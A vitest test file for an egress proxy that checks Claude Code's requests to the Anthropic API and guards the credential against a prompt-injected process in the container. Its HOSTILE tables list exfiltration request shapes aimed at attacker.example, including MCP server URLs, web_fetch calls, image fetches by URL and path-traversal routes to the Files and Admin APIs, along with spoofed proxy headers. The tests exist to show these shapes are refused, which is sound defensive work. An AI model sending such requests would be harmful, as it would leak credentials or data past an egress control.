/**
 * The Anthropic API door (`forwardToAnthropic`) as a whole: every hostile
 * request shape of a prompt-injected process in the container is refused with
 * its code and never reaches `send` (the only way out, so the credential is
 * never added to it); what Claude Code sends leaves in the form the rules
 * checked; bodies are read only up to the limit; replies stream through.
 */
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { MAX_BODY_DEPTH, MAX_BODY_VALUES, MAX_INSPECTED_BODY_BYTES } from "../../worker/src/egress/anthropic-rules.js";
import { forwardToAnthropic } from "../../worker/src/egress/anthropic-door.js";
import { CREDENTIAL_PLACEHOLDER } from "../../worker/src/tasks/claude-command.js";
import { type EnvOverrides, envWith, OAUTH_TOKEN } from "./helpers.js";

const API_KEY = "fake-apikey-door-test-credential";
const ATTACKER = "https://attacker.example/collect?d=";
const CREDENTIALS: [string, EnvOverrides, string][] = [
  ["an OAuth token", {}, OAUTH_TOKEN],
  ["an API key", { CLAUDE_CODE_OAUTH_TOKEN: undefined, ANTHROPIC_API_KEY: API_KEY }, API_KEY],
];

let logs: string[] = [];
let sent: Request[] = [];
const send = vi.fn(async (request: Request) => {
  sent.push(request);
  return new Response("upstream ok");
});
beforeEach(() => {
  logs = [];
  sent = [];
  send.mockClear();
  vi.spyOn(console, "log").mockImplementation((...args: unknown[]) => {
    logs.push(args.map(String).join(" "));
  });
});
afterEach(() => vi.restoreAllMocks());

const message = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ model: "claude-sonnet-5-5", max_tokens: 1024, messages: [{ role: "user", content: "Say four" }], ...extra });

/** A request of the container to the Anthropic API, with Claude Code's placeholder credential headers. */
function containerRequest(path: string, init: { method?: string; body?: BodyInit; headers?: Record<string, string> } = {}): Request {
  return new Request(`https://api.anthropic.com${path}`, {
    method: init.method ?? "POST",
    headers: {
      authorization: `Bearer ${CREDENTIAL_PLACEHOLDER}`,
      "x-api-key": CREDENTIAL_PLACEHOLDER,
      "content-type": "application/json",
      ...init.headers,
    },
    ...(init.body === undefined ? {} : { body: init.body }),
  });
}

interface HostileShape {
  path: string;
  method?: string;
  body?: string;
  headers?: Record<string, string>;
  code: string;
  status?: number;
}

/** The request shapes of issue 8, and their relatives. */
const HOSTILE: [string, HostileShape][] = [
  [
    "mcp_servers with a URL, and its beta",
    {
      path: "/v1/messages?beta=true",
      headers: { "anthropic-beta": "mcp-client-2025-04-04" },
      body: message({ mcp_servers: [{ type: "url", url: `${ATTACKER}secret`, name: "exfil" }] }),
      code: "mcp_servers_not_allowed",
    },
  ],
  [
    "the web_fetch server tool",
    {
      path: "/v1/messages?beta=true",
      headers: { "anthropic-beta": "web-fetch-2025-09-10" },
      body: message({ tools: [{ type: "web_fetch_20250910", name: "web_fetch", max_uses: 5 }] }),
      code: "tool_not_allowed",
    },
  ],
  [
    "an image the API would fetch by URL",
    {
      path: "/v1/messages",
      body: message({ messages: [{ role: "user", content: [{ type: "image", source: { type: "url", url: `${ATTACKER}secret` } }] }] }),
      code: "content_source_not_allowed",
    },
  ],
  [
    "an assistant prefill of the web_fetch server tool",
    {
      path: "/v1/messages?beta=true",
      body: message({
        messages: [
          { role: "user", content: "Go on" },
          { role: "assistant", content: [{ type: "server_tool_use", id: "srvtoolu_1", name: "web_fetch", input: { url: `${ATTACKER}secret` } }] },
        ],
      }),
      code: "tool_not_allowed",
    },
  ],
  ["a message batch", { path: "/v1/messages/batches", body: JSON.stringify({ requests: [] }), code: "route_not_allowed" }],
  ["a batch by a dot-dot path", { path: "/v1/messages/x/../batches", body: "{}", code: "route_not_allowed" }],
  ["a batch by an encoded slash", { path: "/v1/messages%2Fbatches", body: "{}", code: "route_not_allowed" }],
  ["the Files API", { path: "/v1/files", body: "{}", code: "route_not_allowed" }],
  ["a file's content", { path: "/v1/files/file_011/content", method: "GET", code: "route_not_allowed" }],
  ["the Files API by encoded dot-dot", { path: "/v1/messages/%2e%2e/files", body: "{}", code: "route_not_allowed" }],
  ["the Files API by encoded slashes", { path: "/v1/messages%2f..%2ffiles", body: "{}", code: "route_not_allowed" }],
  ["the Skills API", { path: "/v1/skills", body: "{}", code: "route_not_allowed" }],
  ["the Admin API", { path: "/v1/organizations/api_keys", method: "GET", code: "route_not_allowed" }],
  ["an organization invite", { path: "/v1/organizations/invites", body: '{"email":"a@attacker.example"}', code: "route_not_allowed" }],
  ["a DELETE of a message path", { path: "/v1/messages", method: "DELETE", code: "route_not_allowed" }],
  ["a GET of the message path", { path: "/v1/messages", method: "GET", code: "route_not_allowed" }],
  ["an unknown path", { path: "/v2/anything", body: "{}", code: "route_not_allowed" }],
  ["an unknown query", { path: `/v1/messages?beta=true&next=${encodeURIComponent(ATTACKER)}`, body: message(), code: "query_not_allowed" }],
  ["a body that is not JSON", { path: "/v1/messages", body: "model=claude", code: "body_not_json" }],
  [
    "a body the API would decompress",
    { path: "/v1/messages", headers: { "content-encoding": "gzip" }, body: "\u001f\u008b\u0008\u0000", code: "body_not_json" },
  ],
  [
    "a body nested deeper than the door parses",
    { path: "/v1/messages", body: message({ metadata: JSON.parse(`${"[".repeat(MAX_BODY_DEPTH)}${"]".repeat(MAX_BODY_DEPTH)}`) }), code: "body_too_deep", status: 400 },
  ],
  [
    "a body of more values than the door parses",
    { path: "/v1/messages", body: message({ metadata: Array.from({ length: MAX_BODY_VALUES }, () => 0) }), code: "body_too_many_values", status: 413 },
  ],
  [
    "a declared body over the limit",
    {
      path: "/v1/messages",
      headers: { "content-length": String(MAX_INSPECTED_BODY_BYTES + 1) },
      body: message(),
      code: "body_too_large",
      status: 413,
    },
  ],
];

describe.each(CREDENTIALS)("with %s", (_kind, env, credential) => {
  it.each(HOSTILE)("refuses %s before the credential is added", async (_name, shape) => {
    const request = containerRequest(shape.path, {
      method: shape.method ?? "POST",
      ...(shape.body === undefined ? {} : { body: shape.body }),
      ...(shape.headers === undefined ? {} : { headers: shape.headers }),
    });
    const response = await forwardToAnthropic(request, envWith(env), send);

    expect(response.status).toBe(shape.status ?? 403);
    const body = (await response.json()) as { error: string; code: string };
    expect(body.code).toBe(shape.code);
    expect(body.error).toEqual(expect.any(String));
    expect(send).not.toHaveBeenCalled();
    expect(JSON.stringify(body)).not.toContain(credential);
  });

  it.each(HOSTILE)("logs the rule that refused %s, and nothing of the request", async (_name, shape) => {
    const request = containerRequest(shape.path, {
      method: shape.method ?? "POST",
      ...(shape.body === undefined ? {} : { body: shape.body }),
      headers: { ...shape.headers, "x-claude-code-session-id": "session-marker-in-a-header" },
    });
    await forwardToAnthropic(request, envWith(env), send);

    expect(logs).toHaveLength(1);
    expect(JSON.parse(logs[0]!)).toEqual({
      level: "warn",
      event: "egress_refused",
      host: "api.anthropic.com",
      rule: shape.code,
      status: shape.status ?? 403,
    });
    for (const secretive of ["session-marker-in-a-header", CREDENTIAL_PLACEHOLDER, "attacker.example", credential]) {
      expect(logs[0]).not.toContain(secretive);
    }
  });

  it("forwards Claude Code's request with the credential, in the form the rules checked", async () => {
    const request = containerRequest("/v1//messages/?beta=true", { body: message(), headers: { "anthropic-version": "2023-06-01" } });
    const response = await forwardToAnthropic(request, envWith(env), send);

    expect(response.status).toBe(200);
    expect(sent).toHaveLength(1);
    const [forwarded] = sent;
    expect(forwarded!.url).toBe("https://api.anthropic.com/v1/messages?beta=true");
    expect(forwarded!.method).toBe("POST");
    expect([forwarded!.headers.get("authorization"), forwarded!.headers.get("x-api-key")]).toContain(
      credential === OAUTH_TOKEN ? `Bearer ${OAUTH_TOKEN}` : API_KEY,
    );
    expect(JSON.stringify([...forwarded!.headers])).not.toContain(CREDENTIAL_PLACEHOLDER);
    expect(forwarded!.headers.get("anthropic-version")).toBe("2023-06-01");
    expect(forwarded!.headers.get("content-type")).toBe("application/json");
    expect(JSON.parse(await forwarded!.text())).toEqual(JSON.parse(message()));
  });
});

describe("headers", () => {
  /** Headers Claude Code sends (the recording's, with the values of one of its requests). */
  const CLAUDE_CODE_HEADERS: Record<string, string> = {
    accept: "application/json",
    "accept-encoding": "gzip, deflate, br, zstd",
    "anthropic-dangerous-direct-browser-access": "true",
    "anthropic-version": "2023-06-01",
    "user-agent": "claude-cli/2.1.332 (external, cli)",
    "x-app": "cli",
    "x-claude-code-session-id": "4c2e7a61-0b8e-4f0c-9d57-1c1e2b3a4d5e",
    "x-stainless-arch": "x64",
    "x-stainless-lang": "js",
    "x-stainless-os": "Linux",
    "x-stainless-package-version": "0.70.0",
    "x-stainless-retry-count": "0",
    "x-stainless-runtime": "node",
    "x-stainless-runtime-version": "v24.3.0",
    "x-stainless-timeout": "600",
  };
  /** Headers a process in the container might add to steer a proxy, the API or anything between. */
  const HOSTILE_HEADERS: Record<string, string> = {
    "x-forwarded-host": "attacker.example",
    "x-forwarded-for": "10.0.0.1",
    "x-forwarded-proto": "http",
    forwarded: "for=10.0.0.1;host=attacker.example",
    "x-original-url": "/v1/files",
    "x-rewrite-url": "/v1/messages/batches",
    "x-http-method-override": "DELETE",
    "x-real-ip": "127.0.0.1",
    "cf-connecting-ip": "127.0.0.1",
    cookie: "session=stolen",
    "proxy-authorization": "Basic eDp5",
    origin: "https://attacker.example",
    referer: "https://attacker.example/",
    "anthropic-organization-id": "org_attacker",
    "x-anthropic-billing-header": "attacker",
  };

  it.each(CREDENTIALS)("forwards only the headers Claude Code sends, with %s", async (_kind, env) => {
    const request = containerRequest("/v1/messages?beta=true", { body: message(), headers: { ...CLAUDE_CODE_HEADERS, ...HOSTILE_HEADERS } });
    const response = await forwardToAnthropic(request, envWith(env), send);
    expect(response.status).toBe(200);
    const forwarded = Object.fromEntries(sent[0]!.headers);
    for (const name of Object.keys(HOSTILE_HEADERS)) expect(forwarded).not.toHaveProperty(name);
    for (const [name, value] of Object.entries(CLAUDE_CODE_HEADERS)) expect(forwarded[name]).toBe(value);
    const credentialHeader = env.ANTHROPIC_API_KEY === undefined ? "authorization" : "x-api-key";
    expect(Object.keys(forwarded).sort()).toEqual([...Object.keys(CLAUDE_CODE_HEADERS), credentialHeader, "content-type"].sort());
  });
});

describe("what is forwarded is what was checked", () => {
  it("sends the body as parsed, so a repeated field cannot hide a tool from the check", async () => {
    const body = `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],"tools":[]}`;
    const response = await forwardToAnthropic(containerRequest("/v1/messages", { body }), envWith({}), send);
    expect(response.status).toBe(200);
    const forwarded = await sent[0]!.text();
    expect(forwarded).not.toContain("web_fetch");
    expect(JSON.parse(forwarded)).toEqual({ model: "m", max_tokens: 1, messages: [], tools: [] });
  });

  it("never forwards the container's content encoding or length", async () => {
    const request = containerRequest("/v1/messages", { body: message(), headers: { "content-encoding": "identity" } });
    await forwardToAnthropic(request, envWith({}), send);
    expect(sent[0]!.headers.get("content-encoding")).toBeNull();
    expect(sent[0]!.headers.get("content-length")).not.toBe(String(message().length + 1));
  });

  it.each([
    ["shorter", "7"],
    ["longer", "900"],
  ])("never forwards a Content-Length %s than the body: what leaves declares the bytes it carries", async (_name, declared) => {
    // Spaced out, so the body forwarded (serialised again) is shorter than the one sent, and neither is what the header says.
    const sentBody = JSON.stringify(JSON.parse(message()), null, 2);
    const request = containerRequest("/v1/messages", { body: new Response(sentBody).body!, headers: { "content-length": declared } });
    expect(request.headers.get("content-length")).toBe(declared);
    const response = await forwardToAnthropic(request, envWith({}), send);
    expect(response.status).toBe(200);
    expect(sent).toHaveLength(1);
    const forwarded = new Uint8Array(await sent[0]!.clone().arrayBuffer());
    expect(JSON.parse(new TextDecoder().decode(forwarded))).toEqual(JSON.parse(message()));
    const length = sent[0]!.headers.get("content-length");
    expect(length).not.toBe(declared);
    // Either no length (the runtime counts the bytes as it sends them) or exactly the bytes forwarded.
    if (length !== null) expect(Number(length)).toBe(forwarded.byteLength);
  });

  it("drops anthropic-beta values Claude Code does not send and logs how many, not which", async () => {
    const request = containerRequest("/v1/messages", {
      body: message(),
      headers: { "anthropic-beta": "claude-code-20250219, mcp-client-2025-04-04,files-api-2025-04-14,oauth-2025-04-20" },
    });
    await forwardToAnthropic(request, envWith({}), send);
    expect(sent[0]!.headers.get("anthropic-beta")).toBe("claude-code-20250219,oauth-2025-04-20");
    expect(logs.map((line) => JSON.parse(line) as unknown)).toEqual([
      { level: "info", event: "egress_betas_dropped", host: "api.anthropic.com", count: 2 },
    ]);
  });

  it("sends no anthropic-beta header when none is kept", async () => {
    const request = containerRequest("/v1/messages", { body: message(), headers: { "anthropic-beta": "mcp-client-2025-04-04" } });
    await forwardToAnthropic(request, envWith({}), send);
    expect(sent[0]!.headers.has("anthropic-beta")).toBe(false);
  });
});

describe("web search follows ALLOW_WEB_SEARCH", () => {
  const webSearch = () =>
    containerRequest("/v1/messages?beta=true", {
      body: message({ tools: [{ type: "web_search_20250305", name: "web_search", max_uses: 8 }], tool_choice: { type: "tool", name: "web_search" } }),
    });

  it.each([
    ["unset (the default)", undefined, 200],
    ["true", "true", 200],
    ["false", "false", 403],
    ["not a boolean (fails closed)", "maybe", 403],
  ])("%s", async (_name, value, status) => {
    const response = await forwardToAnthropic(webSearch(), envWith({ ALLOW_WEB_SEARCH: value }), send);
    expect(response.status).toBe(status);
    if (status === 403) {
      expect(await response.json()).toMatchObject({ code: "web_search_disabled" });
      expect(send).not.toHaveBeenCalled();
    }
  });
});

describe("bounded reading of the request body", () => {
  /** A body stream that produces `chunks` chunks of 64 KiB on demand, counting what was pulled. */
  function countingBody(chunks: number) {
    const counter = { pulled: 0, cancelled: false };
    let produced = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (produced === chunks) return controller.close();
        produced++;
        counter.pulled += 65_536;
        controller.enqueue(new Uint8Array(65_536).fill(0x20));
      },
      cancel() {
        counter.cancelled = true;
      },
    });
    return { stream, counter };
  }

  it("refuses a body that grows past the limit, and stops reading there", async () => {
    const chunks = MAX_INSPECTED_BODY_BYTES / 65_536 + 64;
    const { stream, counter } = countingBody(chunks);
    const request = containerRequest("/v1/messages", { body: stream });
    const response = await forwardToAnthropic(request, envWith({}), send);

    expect(response.status).toBe(413);
    expect(await response.json()).toMatchObject({ code: "body_too_large" });
    expect(counter.pulled).toBeLessThanOrEqual(MAX_INSPECTED_BODY_BYTES + 2 * 65_536);
    expect(counter.cancelled).toBe(true);
    expect(send).not.toHaveBeenCalled();
  });

  it("refuses a declared length over the limit before reading a byte", async () => {
    const { stream, counter } = countingBody(4);
    const request = new Request("https://api.anthropic.com/v1/messages", {
      method: "POST",
      headers: { "content-length": String(MAX_INSPECTED_BODY_BYTES + 1) },
      body: stream,
    });
    const response = await forwardToAnthropic(request, envWith({}), send);
    expect(response.status).toBe(413);
    expect(counter.pulled).toBeLessThanOrEqual(65_536);
  });

  it("reads a body at the limit", async () => {
    const padding = " ".repeat(MAX_INSPECTED_BODY_BYTES - message().length);
    const response = await forwardToAnthropic(containerRequest("/v1/messages", { body: message() + padding }), envWith({}), send);
    expect(response.status).toBe(200);
  });
});

describe("replies stream through", () => {
  it("hands the first event to the container before the API has finished replying", async () => {
    const encoder = new TextEncoder();
    let finish!: () => void;
    const upstreamDone = new Promise<void>((resolve) => (finish = resolve));
    const upstream = new ReadableStream<Uint8Array>({
      async start(controller) {
        controller.enqueue(encoder.encode("event: message_start\ndata: {}\n\n"));
        await upstreamDone;
        controller.enqueue(encoder.encode("event: message_stop\ndata: {}\n\n"));
        controller.close();
      },
    });
    const streamingSend = async () => new Response(upstream, { headers: { "content-type": "text/event-stream" } });

    const response = await forwardToAnthropic(containerRequest("/v1/messages", { body: message({ stream: true }) }), envWith({}), streamingSend);
    expect(response.headers.get("content-type")).toBe("text/event-stream");
    const reader = response.body!.getReader();
    const first = await Promise.race([
      reader.read(),
      new Promise<"timed out">((resolve) => setTimeout(() => resolve("timed out"), 2_000)),
    ]);
    expect(first).not.toBe("timed out");
    expect(new TextDecoder().decode((first as ReadableStreamReadResult<Uint8Array>).value)).toContain("message_start");

    finish();
    const rest = await new Response(new ReadableStream({ pull: async (controller) => {
      const { done, value } = await reader.read();
      if (done) controller.close();
      else controller.enqueue(value);
    } })).text();
    expect(rest).toContain("message_stop");
  });
});
